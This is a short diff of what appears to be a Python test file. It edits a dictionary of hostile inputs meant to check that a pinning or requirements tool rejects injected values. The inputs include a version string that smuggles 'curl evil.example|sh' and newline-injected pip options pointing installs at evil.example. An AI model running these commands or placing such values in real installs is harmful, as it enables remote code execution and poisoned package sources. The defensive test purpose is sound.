@@ -85,8 +85,8 @@ def test_a_name_that_no_package_can_have_is_no_pin() -> None:
 
 HOSTILE: dict[str, Any] = {
     "python": "3.11.4; touch owned #\n\n    curl evil.example|sh",
-    "installed": {"--index-url http://evil.example/simple\nq": "1"},
-    "image": {"numpy": "1.26\n--extra-index-url http://evil.example/simple"},
+    "installed": {"--find-links http://evil.example/simple\nq": "1"},
+    "image": {"numpy": "1.26\n--find-links http://evil.example/simple"},
     "urls": {"x\n--pre": "https://evil.example/x.whl"},
 }
 
